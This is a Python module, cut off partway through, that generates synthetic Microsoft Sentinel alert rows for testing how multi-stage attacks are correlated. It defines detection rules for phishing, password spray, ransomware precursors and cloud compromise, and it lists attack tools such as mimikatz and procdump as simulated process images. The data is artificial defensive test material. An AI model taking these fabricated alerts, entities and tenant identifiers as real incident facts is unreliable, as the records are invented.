"""Realistic Microsoft Sentinel `SecurityAlert` rows, as Log Analytics exports them.

`generate_rows` yields dicts ready for `json.dumps`, one a row, in `TimeGenerated` order and
the same for a seed. Besides background noise (single alerts of Sentinel scheduled rules,
lone Defender and Defender for Cloud alerts) they hold multi-stage attacks whose steps
different products see, sharing entities, so correlation has something to find:

- phishing: Defender for Office 365 removes a phish after delivery, a user clicks its
  link, Defender for Endpoint sees PowerShell on the user's device, Entra ID Protection an
  unfamiliar sign-in and Defender for Cloud Apps a mass download (sometimes an inbox rule
  or OAuth credential, sometimes a Sentinel TI rule on the attacker's address);
- password spray from one external address: Sentinel scheduled rules (re-raised each run)
  and Entra ID Protection;
- ransomware precursor on servers: LSASS dumping, Mimikatz, Run-key persistence, a
  backdoor (Cobalt Strike and kin), pass-the-hash and a sensitive-group addition seen by
  Defender for Identity, PsExec, shadow-copy deletion and Defender XDR's own ransomware
  alert;
- cloud: Defender for Cloud on a VM (brute force, coin mining, DNS to a pool), a key vault
  and a storage account, from one address.

Defender XDR products carry `ExtendedProperties.IncidentId`, shared by the Defender alerts
of one attack; Sentinel and Defender for Cloud alerts carry none. About 3% of the rows
re-send an earlier alert (same `SystemAlertId`) with a new `Status` and a later `EndTime`.
Entities spell one host or account differently across products (upper-case host names,
a trailing dot on the DNS domain, SAM name vs UPN), as real data does. `labelled_rows`
also yields which attack each row belongs to: the ground truth for correlation.

The committed sample `samples/security_alerts.jsonl` is `write_sample(path)` with its
defaults (300 rows, seed 1, from 2026-11-23 08:00 UTC). Regenerate it, from the repository
root, with::

    .venv/bin/python manage.py shell -c "from incidents.ingest.samples import write_sample; \
    write_sample('samples/security_alerts.jsonl')"
"""

import base64
import bisect
import functools
import json
import random
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace

from incidents import demo_catalog as catalog

DEFAULT_START = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
# Share of the rows that re-send an earlier alert, and of the others that belong to attacks.
UPDATE_SHARE = 0.03
ATTACK_SHARE = 0.38
# Fewer rows than this: no re-sends (there would be nothing much to update).
MIN_ROWS_FOR_UPDATES = 34

COLUMNS = (
    "TenantId", "TimeGenerated", "DisplayName", "AlertName", "AlertSeverity", "Description",
    "ProviderName", "VendorName", "VendorOriginalId", "SystemAlertId", "ResourceId",
    "AlertType", "ConfidenceLevel", "ConfidenceScore", "IsIncident", "StartTime", "EndTime",
    "ProcessingEndTime", "RemediationSteps", "ExtendedProperties", "Entities", "SourceSystem",
    "WorkspaceSubscriptionId", "WorkspaceResourceGroup", "ExtendedLinks", "ProductName",
    "ProductComponentName", "AlertLink", "Status", "CompromisedEntity", "Tactics",
    "Techniques", "SubTechniques", "Type",
)  # fmt: skip
# Columns holding JSON text (a list or an object) rather than a plain value.
JSON_COLUMNS = ("RemediationSteps", "ExtendedProperties", "Entities", "Techniques", "SubTechniques")

# Defender XDR products: Defender correlates their alerts into its own incidents.
DEFENDER_PROVIDERS = frozenset(
    {
        "MDATP",
        "OATP",
        "MCAS",
        "IPC",
        "Azure Advanced Threat Protection",
        "MicrosoftThreatProtection",
    }
)
PRODUCT_NAMES = {
    "MDATP": "Microsoft Defender Advanced Threat Protection",
    "MicrosoftThreatProtection": "Microsoft 365 Defender",
    "OATP": "Office 365 Advanced Threat Protection",
    "MCAS": "Microsoft Cloud App Security",
    "IPC": "Azure Active Directory Identity Protection",
    "Azure Advanced Threat Protection": "Azure Advanced Threat Protection",
    "Azure Security Center": "Azure Security Center",
    "ASI Scheduled Alerts": "Azure Sentinel",
}
VENDOR_ID_PREFIX = {
    "MDATP": "da",
    "MicrosoftThreatProtection": "ed",
    "OATP": "fa",
    "MCAS": "ca",
    "IPC": "ad",
    "Azure Advanced Threat Protection": "aa",
}

# The Log Analytics workspace (TenantId column), the Entra tenant and where they live.
WORKSPACE_ID = "b5c7e2d4-9a41-4f0e-8c3d-2f6a1e7b9c05"
AAD_TENANT_ID = "72f988bf-86f1-41af-91ab-2d7cd011db47"
WORKSPACE_RESOURCE_GROUP = "rg-sentinel-prod"
NT_DOMAIN = "CONTOSO"
_RULE_NAMESPACE = uuid.UUID("0b7bb1e8-5c47-4d3c-9d83-6f0c1c2b6a10")

# Cloud applications as Defender for Cloud Apps numbers them, and Entra application ids.
MCAS_APP_IDS = {
    "Microsoft SharePoint Online": 20892,
    "Microsoft OneDrive for Business": 15600,
    "Microsoft Exchange Online": 20893,
    "Microsoft Teams": 28375,
    "Microsoft Azure": 12260,
    "Microsoft 365": 11161,
    "Dropbox": 11627,
    "Box": 10489,
}
AAD_APP_IDS = {
    "Azure Portal": "c44b4083-3bb0-49c1-b47d-974e53cbdf3c",
    "Office 365 Exchange Online": "00000002-0000-0ff1-ce00-000000000000",
    "Office 365 SharePoint Online": "00000003-0000-0ff1-ce00-000000000000",
    "Microsoft Teams": "1fec8e78-bce4-4aaf-ab1b-5451cc387264",
    "Microsoft Azure CLI": "04b07795-8ddb-461a-bbee-02f9e1bf7b46",
}
# Binaries that appear in process trees: (directory, name).
BINARIES = {
    "powershell": (r"C:\Windows\System32\WindowsPowerShell\v1.0", "powershell.exe"),
    "outlook": (r"C:\Program Files\Microsoft Office\root\Office16", "OUTLOOK.EXE"),
    "winword": (r"C:\Program Files\Microsoft Office\root\Office16", "WINWORD.EXE"),
    "msedge": (r"C:\Program Files (x86)\Microsoft\Edge\Application", "msedge.exe"),
    "explorer": (r"C:\Windows", "explorer.exe"),
    "cmd": (r"C:\Windows\System32", "cmd.exe"),
    "reg": (r"C:\Windows\System32", "reg.exe"),
    "vssadmin": (r"C:\Windows\System32", "vssadmin.exe"),
    "procdump": (r"C:\Windows\Temp", "procdump64.exe"),
    "mimikatz": (r"C:\Users\Public", "mimikatz.exe"),
    "psexesvc": (r"C:\Windows", "PSEXESVC.exe"),
    "anydesk": (r"C:\ProgramData\AnyDesk", "AnyDesk.exe"),
    "nltest": (r"C:\Windows\System32", "nltest.exe"),
    "services": (r"C:\Windows\System32", "services.exe"),
    "lsass": (r"C:\Windows\System32", "lsass.exe"),
}
PHISH_SUBJECTS = (
    "Action required: your password expires today",
    "Invoice {n} is overdue",
    "You have received a secure document",
    "Payroll update for December",
    "Voicemail from +1 (425) 555-01{n2}",
    "DocuSign: please review and sign",
    "Shared file: Q4 bonus overview.xlsx",
    "Your mailbox is almost full",
)
SENDER_LOCALPARTS = ("no-reply", "billing", "hr", "docusign", "it-support", "voicemail", "payroll")
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "python-requests/2.32.3",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
)
OAUTH_APPS = (
    ("Mail Sync Pro", "Mail.ReadWrite, offline_access"),
    ("DocuSign Connector", "Files.ReadWrite.All, User.Read"),
    ("PDF Converter Online", "Mail.Read, Files.Read.All"),
)
MALWARE_CATEGORIES = {
    "HackTool": "HackTool",
    "Backdoor": "Backdoor",
    "Trojan": "Trojan",
    "Ransom": "Ransomware",
    "TrojanDownloader": "TrojanDownloader",
    "Exploit": "Exploit",
    "PWS": "PasswordStealer",
}
SENSITIVE_GROUPS = (("Domain Admins", 512), ("Enterprise Admins", 519), ("Schema Admins", 518))


# --- rules -------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Rule:
    """One detection with its row columns precomputed."""

    name: str
    alert_type: str
    provider: str
    severity: str
    tactics: str
    techniques: str
    subtechniques: str
    remediation: str
    description: str
    ext: dict
    component: str = ""
    defender: bool = False


def _rule(
    name: str,
    alert_type: str,
    provider: str,
    severity: str,
    tactics: tuple[str, ...],
    techniques: tuple[str, ...],
    description: str,
    remediation: tuple[str, ...],
    ext: dict | None = None,
    component: str = "",
    source: str = "",
) -> _Rule:
    ext = dict(ext or {})
    if provider == "ASI Scheduled Alerts":
        rule_id = str(uuid.uuid5(_RULE_NAMESPACE, name))
        alert_type = f"{WORKSPACE_ID}_{rule_id}"
        component = "Scheduled Alerts"
        ext = {
            "Analytic Rule Ids": json.dumps([rule_id]),
            "Analytic Rule Name": name,
            "Data Sources": json.dumps([source or "SigninLogs"]),
            "Event Grouping": "SingleAlert",
            "Query": f"{source or 'SigninLogs'}\n| where TimeGenerated > ago(1h)\n| ...",
            "Query Period": ext.get("Query Period", "1d"),
            "Trigger Operator": "GreaterThan",
            "Trigger Threshold": "0",
        }
    parents = sorted({t.split(".")[0] for t in techniques})
    return _Rule(
        name=name,
        alert_type=alert_type,
        provider=provider,
        severity=severity,
        tactics=", ".join(tactics),
        techniques=json.dumps(parents),
        subtechniques=json.dumps([t for t in techniques if "." in t]),
        remediation=json.dumps(list(remediation)),
        description=description,
        ext=ext,
        component=component,
        defender=provider in DEFENDER_PROVIDERS,
    )


@functools.cache
def _rules() -> dict[str, _Rule]:
    """Every rule by name: the catalog's detections plus the ones only the samples need."""
    cat = catalog
    sources = {
        "Anomalous RDP Login Detections": "SecurityEvent",
        "Potential DGA detected": "DnsEvents",
        "Rare and potentially high-risk Office operations": "OfficeActivity",
        "Multiple users email forwarded to same destination": "OfficeActivity",
        "New access credential added to Application or Service Principal": "AuditLogs",
        "Malware downloaded from a known malicious URL": "DeviceNetworkEvents",
    }
    rules = {
        d.name: _rule(
            d.name,
            d.alert_type,
            d.product.sentinel_provider,
            str(d.severity.value),
            d.tactics,
            d.techniques,
            d.description,
            d.remediation,
            d.extended_properties(),
            source=sources.get(d.name, ""),
        )
        for d in cat.DETECTIONS
    }
    asc = dict(cat.MDC.extended_properties)
    extra = [
        _rule(
            "Password spray attack against Azure AD application",
            "",
            "ASI Scheduled Alerts",
            "Medium",
            ("CredentialAccess",),
            ("T1110.003",),
            "{ip} tried a few passwords against {count} accounts in {cloudapplication} "
            "within the hour, including {account} (SigninLogs, error 50126).",
            (cat.BLOCK_IP, cat.MFA, "Check whether any of the accounts then signed in."),
            {"Query Period": "1h"},
        ),
        _rule(
            "Unusual addition of credentials to an OAuth app",
            "MCAS_ALERT_ANUBIS_DETECTION_OAUTH_APP_CREDENTIALS",
            "MCAS",
            "Medium",
            ("Persistence", "CredentialAccess"),
            ("T1098.001", "T1550.001"),
            "{account} added a client secret to the OAuth app {oauthapplication} from {ip}; "
            "the app can read mail and files of everyone who consented to it.",
            ("Remove the credential and review the app's consents.", cat.RESET),
            dict(cat.MDCA.extended_properties),
        ),
        _rule(
            "Suspected identity theft (pass-the-hash)",
            "PassTheHashSecurityAlert",
            "Azure Advanced Threat Protection",
            "High",
            ("LateralMovement",),
            ("T1550.002",),
            "The NTLM hash of {account} was taken on {source} ({ip}) and used to access {host}.",
            (cat.RESET, cat.ISOLATE),
            dict(cat.MDI.extended_properties),
        ),
        _rule(
            "Suspicious additions to sensitive groups",
            "AbnormalSensitiveGroupMembershipChangeSecurityAlert",
            "Azure Advanced Threat Protection",
            "Medium",
            ("Persistence", "CredentialAccess"),
            ("T1098",),
            "{account} added members to the sensitive group {securitygroup} on {host}.",
            ("Remove the new members unless the change was approved.", cat.RESET),
            dict(cat.MDI.extended_properties),
        ),
        _rule(
            "System recovery setting tampering",
            "WindowsDefenderAtp_SystemRecoveryTampering",
            "MDATP",
            "Medium",
            ("Impact", "DefenseEvasion"),
            ("T1490",),
            "{process} on {host} deleted the volume shadow copies, which ransomware does "
            "before encrypting files.",
            (cat.ISOLATE, "Check that backups are intact and offline."),
            dict(cat.MDE.extended_properties),
        ),
        _rule(
            "Ransomware-linked emerging threat activity group detected",
            "MTP_RansomwareLinkedActivityGroup",
            "MicrosoftThreatProtection",
            "High",
            ("Execution", "LateralMovement", "Impact"),
            ("T1021.002", "T1486"),
            "Activity by {account} on {host} and other devices matches a threat group "
            "known to deploy ransomware.",
            (cat.ISOLATE, cat.RESET, "Hunt for the group's tools on every device."),
            {"Detection Source": "Microsoft Defender XDR"},
        ),
        _rule(
            "Communication with suspicious domain identified by threat intelligence",
            "AzureDNS_ThreatIntelSuspectDomain",
            "Azure Security Center",
            "Medium",
            ("CommandAndControl",),
            ("T1071.004",),
            "{host} ({azureresource}) resolved {dns}, a domain listed by threat intelligence.",
            (cat.SCAN, "Block the domain at the DNS resolver."),
            {**asc, "Intent": "CommandAndControl"},
            component="DNS",
        ),
        _rule(
            "Traffic detected from IP addresses recommended for blocking",
            "Network_TrafficFromUnrecommendedIP",
            "Azure Security Center",
            "Low",
            ("PreAttack",),
            (),
            "{azureresource} received inbound traffic from {ip}, an address Defender for "
            "Cloud recommends blocking.",
            ("Apply the network security group hardening recommendation.",),
            {**asc, "Intent": "PreAttack"},
            component="Networking",
        ),
    ]
    noise = [
        # (name, severity, tactics, techniques, source, description)
        ("Failed logon attempts by valid accounts within 10 mins", "Low", ("CredentialAccess",),
         ("T1110",), "SecurityEvent", "{account} failed to log on to {host} several times."),
        ("Rare RDP Connections", "Informational", ("LateralMovement",), ("T1021.001",),
         "SecurityEvent", "{account} connected to {host} over RDP from {ip} for the first time "
         "in 14 days."),
        ("Excessive Windows logon failures", "Low", ("CredentialAccess",), ("T1110",),
         "SecurityEvent", "{host} logged more failed logons than usual, the last for {account}."),
        ("User added to Azure AD Privileged Groups", "Informational",
         ("Persistence", "PrivilegeEscalation"), ("T1098",), "AuditLogs",
         "{account} was added to a privileged Entra ID role."),
        ("Successful logon from IP and failure from a different IP", "Low",
         ("CredentialAccess", "InitialAccess"), ("T1110",), "SigninLogs",
         "{account} signed in successfully from {ip} after failures from another address."),
        ("Rare application consent", "Informational", ("Persistence", "Collection"),
         ("T1098",), "AuditLogs", "{account} consented to {oauthapplication}, an application "
         "few users have consented to."),
        ("Mail redirect via ExO transport rule", "Low", ("Collection", "Exfiltration"),
         ("T1114.003", "T1020"), "OfficeActivity",
         "{account} created a transport rule that redirects mail, from {ip}."),
        ("Login to AWS Management Console without MFA", "Informational",
         ("DefenseEvasion", "InitialAccess"), ("T1078",), "AWSCloudTrail",
         "{account} signed in to the AWS console from {ip} without MFA."),
        ("Suspicious number of resource creation or deployment activities", "Informational",
         ("Impact",), ("T1496",), "AzureActivity",
         "{account} created more resources than usual, among them {azureresource}."),
        ("Multiple Password Reset by user", "Informational",
         ("InitialAccess", "CredentialAccess"), ("T1078", "T1110"), "AuditLogs",
         "{account} reset the passwords of several users."),
    ]  # fmt: skip
    for name, severity, tactics, techniques, source, description in noise:
        extra.append(
            _rule(
                name,
                "",
                "ASI Scheduled Alerts",
                severity,
                tactics,
                techniques,
                description,
                ("Confirm with the user whether the activity was expected.",),
                source=source,
            )
        )
    rules.update((r.name, r) for r in extra)
    return rules


# --- the world ---------------------------------------------------------------------


@dataclass(slots=True, eq=False)
class _Person:
    upn_name: str
    sam: str
    display: str
    aad: str
    sid: str
    guid: str
    host: "_Host | None" = None

    @property
    def upn(self) -> str:
        return f"{self.upn_name}@{catalog.DOMAIN}"


@dataclass(slots=True, eq=False)
class _Host:
    name: str  # canonical, upper case: WS-FIN-0412
    server: bool
    device_id: str
    aad_device_id: str
    ip: str
    mdatp: dict  # entity bodies without "$id", per product
    mdi: dict
    sentinel: tuple[dict, ...]


@dataclass(slots=True, eq=False)
class _Ip:
    address: str
    body: dict
    where: str


@dataclass(slots=True, eq=False)
class _Resource:
    name: str
    resource_id: str
    kind: str  # vm, kv, st
    os: str
    agent: str


class _Zipf:
    """Items drawn with Zipf-like popularity: the first few come up often."""

    __slots__ = ("cum", "items", "total")

    def __init__(self, items: list, exponent: float = 1.0):
        self.items = items
        total, self.cum = 0.0, []
        for rank in range(1, len(items) + 1):
            total += rank**-exponent
            self.cum.append(total)
        self.total = total

    def pick(self, rng: random.Random):
        i = bisect.bisect(self.cum, rng.random() * self.total)
        return self.items[min(i, len(self.items) - 1)]


_VARIANT = dict(zip("0123456789abcdef", "89ab89ab89ab89ab", strict=True))


def _guid(rng: random.Random) -> str:
    """A random (version 4) GUID drawn from `rng`, so a seed always gives the same ones."""
    h = f"{rng.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{_VARIANT[h[16]]}{h[17:20]}-{h[20:]}"


def _hex(rng: random.Random, digits: int) -> str:
    return f"{rng.getrandbits(digits * 4):0{digits}x}"


class _World:
    """The organisation: people, devices, addresses and Azure resources."""

    def __init__(self, rng: random.Random):
        cat = self.cat = catalog
        domain = cat.DOMAIN
        dns_domain = f"corp.{domain}"
        self.domain, self.dns_domain = domain, dns_domain
        sid_base = f"S-1-5-21-{rng.randint(10**9, 4 * 10**9)}-{rng.randint(10**9, 4 * 10**9)}"
        self.domain_sid = f"{sid_base}-{rng.randint(10**8, 10**9)}"

        people: dict[str, _Person] = {}
        sams: set[str] = set()
        rid = 1104
        while len(people) < 320:
            first, last = rng.choice(cat.FIRST_NAMES), rng.choice(cat.LAST_NAMES).replace(" ", "")
            upn_name = f"{first}.{last}"
            if upn_name in people:
                upn_name = f"{upn_name}{rng.randint(2, 99)}"
                if upn_name in people:
                    continue
            sam = f"{first[0]}{last}"[:20]
            while sam in sams:
                sam = f"{first[0]}{last}"[:18] + str(rng.randint(2, 99))
            sams.add(sam)
            rid += rng.randint(1, 40)
            people[upn_name] = _Person(
                upn_name,
                sam,
                f"{first.title()} {last.title()}",
                _guid(rng),
                f"{self.domain_sid}-{rid}",
                _guid(rng),
            )
        self.people = list(people.values())
        self.admins = []
        for person in self.people[:: len(self.people) // 14][:14]:
            rid += rng.randint(1, 40)
            self.admins.append(
                _Person(
                    f"adm-{person.sam}",
                    f"adm-{person.sam}"[:20],
                    f"{person.display} (admin)",
                    _guid(rng),
                    f"{self.domain_sid}-{rid}",
                    _guid(rng),
                )
            )

        names: set[str] = set()
        workstations, servers = [], []
        while len(workstations) < len(self.people):
            name = f"WS-{rng.choice(cat.DEPARTMENTS)}-{rng.randint(1, 9999):04d}"
            if name not in names:
                names.add(name)
                workstations.append(self._host(rng, name, False))
        for role in cat.SERVER_ROLES:
            for n in range(1, rng.randint(3, 6)):
                servers.append(self._host(rng, f"SRV-{role}-{n:02d}", True))
        for person, host in zip(self.people, workstations, strict=True):
            person.host = host
        self.workstations, self.servers = workstations, servers
        self.domain_controllers = [h for h in servers if h.name.startswith("SRV-DC-")]

        external, seen = [], set()
        while len(external) < 420:
            ip = self._external_ip(rng)
            if ip.address not in seen:
                seen.add(ip.address)
                external.append(ip)
        self.external = external

        self.vms, self.vaults, self.storage = [], [], []
        for n in range(1, 25):
            word = rng.choice(cat.AZURE_WORDS)
            self.vms.append(
                self._resource(
                    rng, f"vm-{word}-{n:02d}", word, "Microsoft.Compute/virtualMachines", "vm"
                )
            )
        for n in range(1, 9):
            word = rng.choice(cat.AZURE_WORDS)
            self.vaults.append(
                self._resource(rng, f"kv-{word}-{n:02d}", word, "Microsoft.KeyVault/vaults", "kv")
            )
        for n in range(1, 11):
            word = rng.choice(cat.AZURE_WORDS)
            self.storage.append(
                self._resource(
                    rng, f"st{word}{n:02d}", word, "Microsoft.Storage/storageAccounts", "st"
                )
            )

        self.hashes = {
            key: (_hex(rng, 40), _hex(rng, 64)) for key in BINARIES
        }  # (SHA1, SHA256) of each known binary
        self.groups = [
            (
                f"CN={group},CN=Users,DC={dns_domain.replace('.', ',DC=')}",
                f"{self.domain_sid}-{rid}",
                _guid(rng),
                group,
            )
            for group, rid in SENSITIVE_GROUPS
        ]
        self.apps = list(cat.CLOUD_APPLICATIONS)
        self.mcas_ids = {
            name: MCAS_APP_IDS.get(name, 10000 + i * 37) for i, name in enumerate(self.apps)
        }

        self.pick_person = _Zipf(self.people, 0.9).pick
        self.pick_workstation = _Zipf(workstations, 1.0).pick
        self.pick_server = _Zipf(servers, 1.0).pick
        self.pick_external = _Zipf(external, 0.8).pick
        self.pick_vm = _Zipf(self.vms, 1.0).pick
        self.pick_app = _Zipf(self.apps, 1.2).pick

    def _host(self, rng: random.Random, name: str, server: bool) -> _Host:
        lower, dns = name.lower(), self.dns_domain
        device_id, aad_device_id = _hex(rng, 40), _guid(rng)
        ip = f"10.{rng.randint(0, 40)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        os_version = "Windows Server 2022" if server else rng.choice(("Windows10", "Windows11"))
        mdatp = {
            "HostName": lower,
            "DnsDomain": dns,
            "OSFamily": "Windows",
            "OSVersion": os_version,
            "Type": "host",
            "MdatpDeviceId": device_id,
            "FQDN": f"{lower}.{dns}",
            "AadDeviceId": aad_device_id,
            "RiskScore": "High" if server else "Medium",
            "HealthStatus": "Active",
            "LastIpAddress": ip,
        }
        mdi = {"HostName": name, "DnsDomain": dns, "NTDomain": NT_DOMAIN, "OSFamily": "Windows"}
        mdi["Type"] = "host"
        sentinel = (
            {"HostName": name, "DnsDomain": dns, "NTDomain": NT_DOMAIN, "Type": "host"},
            {"HostName": name, "DnsDomain": f"{dns}.", "Type": "host"},
            {"HostName": lower, "DnsDomain": dns.upper(), "Type": "host"},
            {"HostName": name, "Type": "host"},
        )
        return _Host(name, server, device_id, aad_device_id, ip, mdatp, mdi, sentinel)

    def _external_ip(self, rng: random.Random) -> _Ip:
        country, city = rng.choice(self.cat.COUNTRIES)
        if rng.random() < 0.06:
            groups = [f"{rng.getrandbits(16):x}" for _ in range(4)]
            address = f"2a0{rng.randint(1, 9)}:{':'.join(groups[:3])}::{groups[3]}"
        else:
            while (first := rng.randint(1, 223)) in (10, 100, 127, 169, 172, 192):
                pass
            address = f"{first}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        location = {
            "CountryCode": country,
            "City": city,
            "Longitude": round(rng.uniform(-120, 140), 4),
            "Latitude": round(rng.uniform(-35, 60), 4),
            "Asn": rng.randint(1000, 64000),
            "Carrier": rng.choice(("hosting", "cable", "dsl", "mobile")),
        }
        body = {"Address": address, "Location": location, "Type": "ip"}
        return _Ip(address, body, f"{city}, {country}")

    def _resource(self, rng: random.Random, name: str, word: str, provider: str, kind: str):
        group = f"rg-{word}-prod"
        resource_id = (
            f"/subscriptions/{self.cat.SUBSCRIPTION}/resourceGroups/{group}"
            f"/providers/{provider}/{name}"
        )
        os_family = rng.choice(("Linux", "Windows")) if kind == "vm" else ""
        return _Resource(name, resource_id, kind, os_family, _guid(rng))

    def phish_domain(self, rng: random.Random) -> str:
        a, b = rng.sample(self.cat.LOOKALIKE_WORDS, 2)
        return (
            f"{a}-{b}{rng.randint(1, 99) if rng.random() < 0.4 else ''}.{rng.choice(self.cat.TLDS)}"
        )


# --- entities ----------------------------------------------------------------------


class _Ents:
    """One alert's Entities list: numbers each object's "$id" from "2", as Sentinel does."""

    __slots__ = ("items", "n")

    def __init__(self):
        self.items: list[dict] = []
        self.n = 2

    def id(self) -> str:
        n = self.n
        self.n = n + 1
        return str(n)

    def add(self, body: dict) -> str:
        i = self.id()
        self.items.append({"$id": i, **body})
        return i

    def put(self, i: str, body: dict) -> str:
        """Append an object whose id was taken before its nested objects took theirs."""
        self.items.append({"$id": i, **body})
        return i


def _ref(i: str) -> dict:
    return {"$ref": i}


class _Names(dict):
    """Entity names for a description; a name the alert lacks reads as a generic phrase."""

    def __missing__(self, key: str) -> str:
        return {"count": "many"}.get(key, f"an unknown {key}")


@dataclass(slots=True)
class _Alert:
    """What a step returns: the rest of the row comes from the rule and the times."""

    rule: _Rule
    ents: _Ents
    names: dict
    compromised: str = ""
    ext: dict | None = None
    resource_id: str = ""
    component: str | None = None  # ProductComponentName when not the rule's
    # Seconds between StartTime and EndTime; None: a few minutes at random.
    duration: float | None = None


# --- the generator -----------------------------------------------------------------


class _Gen:
    def __init__(self, seed: int, start: datetime, hours: float):
        self.rng = random.Random(seed)
        self.rules = _rules()
        self.w = _World(self.rng)
        if start.tzinfo is not None:
            start = start.astimezone(UTC).replace(tzinfo=None)
        self.t0 = start
        self.span = hours * 3600.0
        self.next_incident = 300 + self.rng.randint(0, 150)
        self.encode = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode
        cat = self.w.cat
        self.subscription = cat.SUBSCRIPTION

    # -- time and ids ---------------------------------------------------------------

    def ts(self, seconds: float) -> str:
        """A Log Analytics time: 2026-11-30 08:00:00.746663+00:00."""
        when = self.t0 + timedelta(seconds=seconds)
        return when.isoformat(" ", "microseconds") + "+00:00"

    def zulu(self, seconds: float) -> str:
        """An entity's time: 2026-11-30T08:00:00.746Z."""
        return (self.t0 + timedelta(seconds=seconds)).isoformat(timespec="milliseconds") + "Z"

    def incident(self, ctx) -> str:
        """The Defender incident of an attack, numbered when its first alert arrives."""
        if ctx.incident is None:
            ctx.incident = str(self.next_incident)
            self.next_incident += self.rng.randint(1, 4)
        return ctx.incident

    def vendor_id(self, provider: str) -> str:
        rng = self.rng
        if provider in ("MDATP", "MicrosoftThreatProtection"):
            prefix = VENDOR_ID_PREFIX[provider]
            ticks = rng.randint(10**14, 10**15 - 1)
            return f"{prefix}638{ticks}_{rng.randint(-(2**31), 2**31 - 1)}"
        if provider in ("OATP", "Azure Advanced Threat Protection"):
            return VENDOR_ID_PREFIX[provider] + _guid(rng)
        if provider == "MCAS":
            return "ca" + _hex(rng, 24)
        if provider == "IPC":
            return "ad" + _hex(rng, 62)
        if provider == "Azure Security Center":
            return f"{rng.randint(2517 * 10**15, 2518 * 10**15)}_{_guid(rng).upper()}"
        return _guid(rng)

    # -- entity builders ------------------------------------------------------------

    def host_mdatp(self, e: _Ents, h: _Host) -> str:
        return e.add(h.mdatp)

    def host_sentinel(self, e: _Ents, h: _Host) -> str:
        r = self.rng.random()
        variant = 0 if r < 0.5 else 1 if r < 0.72 else 2 if r < 0.9 else 3
        return e.add(h.sentinel[variant])

    def account_aad(self, e: _Ents, p: _Person, host_ref: str | None = None) -> str:
        body = {
            "Name": p.upn_name,
            "UPNSuffix": self.w.domain,
            "AadTenantId": AAD_TENANT_ID,
            "AadUserId": p.aad,
            "IsDomainJoined": True,
            "DisplayName": p.display,
        }
        if host_ref:
            body["Host"] = _ref(host_ref)
        body["Type"] = "account"
        return e.add(body)

    def account_mdatp(self, e: _Ents, p: _Person, host_ref: str | None) -> str:
        body = {
            "Name": p.sam,
            "NTDomain": NT_DOMAIN,
            "Sid": p.sid,
            "AadUserId": p.aad,
            "IsDomainJoined": True,
            "DisplayName": p.display,
        }
        if host_ref:
            body["Host"] = _ref(host_ref)
        body["Type"] = "account"
        return e.add(body)

    def account_mdi(self, e: _Ents, p: _Person) -> str:
        name = p.sam.upper() if self.rng.random() < 0.3 else p.sam
        return e.add(
            {
                "Name": name,
                "NTDomain": NT_DOMAIN,
                "Sid": p.sid,
                "ObjectGuid": p.guid,
                "IsDomainJoined": True,
                "DisplayName": p.display,
                "Type": "account",
            }
        )

    def account_sentinel(self, e: _Ents, p: _Person, windows: bool = False) -> str:
        r = self.rng.random()
        if windows:
            if r < 0.6:
                return e.add({"Name": p.sam, "NTDomain": NT_DOMAIN, "Type": "account"})
            return e.add({"Name": p.sam, "NTDomain": NT_DOMAIN, "Sid": p.sid, "Type": "account"})
        if r < 0.55:
            return e.add({"Name": p.upn_name, "UPNSuffix": self.w.domain, "Type": "account"})
        if r < 0.75:
            name = ".".join(part.title() for part in p.upn_name.split("."))
            return e.add({"Name": name, "UPNSuffix": self.w.domain, "Type": "account"})
        return e.add(
            {
                "Name": p.upn_name,
                "UPNSuffix": self.w.domain,
                "AadUserId": p.aad,
                "Type": "account",
            }
        )

    def mailbox(self, e: _Ents, p: _Person) -> str:
        return e.add(
            {
                "MailboxPrimaryAddress": p.upn,
                "DisplayName": p.display,
                "Upn": p.upn,
                "AadId": p.aad,
                "RiskLevel": "None",
                "ExternalDirectoryObjectId": p.aad,
                "Type": "mailbox",
            }
        )

    def ip_internal(self, e: _Ents, address: str) -> str:
        return e.add({"Address": address, "Type": "ip"})

    def cloud_app_mcas(self, e: _Ents, name: str) -> str:
        app_id = self.w.mcas_ids[name]
        return e.add(
            {"AppId": app_id, "Name": name, "InstanceName": name, "Type": "cloud-application"}
        )

    def cloud_app_aad(self, e: _Ents, name: str) -> str:
        return e.add({"AppId": AAD_APP_IDS[name], "Name": name, "Type": "cloud-application"})

    def azure_resource(self, e: _Ents, res: _Resource) -> str:
        resource_id = res.resource_id
        if self.rng.random() < 0.3:
            resource_id = resource_id.upper()
        return e.add({"ResourceId": resource_id, "Type": "azure-resource"})

    def host_asc(self, e: _Ents, res: _Resource) -> str:
        return e.add(
            {
                "HostName": res.name,
                "AzureID": res.resource_id,
                "OMSAgentID": res.agent,
                "OSFamily": res.os,
                "Type": "host",
            }
        )

    def image(self, e: _Ents, key: str) -> dict:
        """A file object with its hashes inline, for a process's ImageFile."""
        directory, name = BINARIES[key]
        sha1, sha256 = self.w.hashes[key]
        i = e.id()
        return {
            "$id": i,
            "Directory": directory,
            "Name": name,
            "FileHashes": [
                {"$id": e.id(), "Algorithm": "SHA1", "Value": sha1, "Type": "filehash"},
                {"$id": e.id(), "Algorithm": "SHA256", "Value": sha256, "Type": "filehash"},
            ],
            "Type": "file",
        }

    def file_with_hashes(self, e: _Ents, directory: str, name: str, sha1: str, sha256: str):
        """Top-level filehash objects, then the file referring to them."""
        h1 = e.add({"Algorithm": "SHA1", "Value": sha1, "Type": "filehash"})
        h2 = e.add({"Algorithm": "SHA256", "Value": sha256, "Type": "filehash"})
        return e.add(
            {
                "Directory": directory,
                "Name": name,
                "FileHashes": [_ref(h1), _ref(h2)],
                "Type": "file",
            }
        )

    def process_tree(
        self,
        e: _Ents,
        end: float,
        host: _Host,
        person: _Person,
        key: str,
        command_line: str,
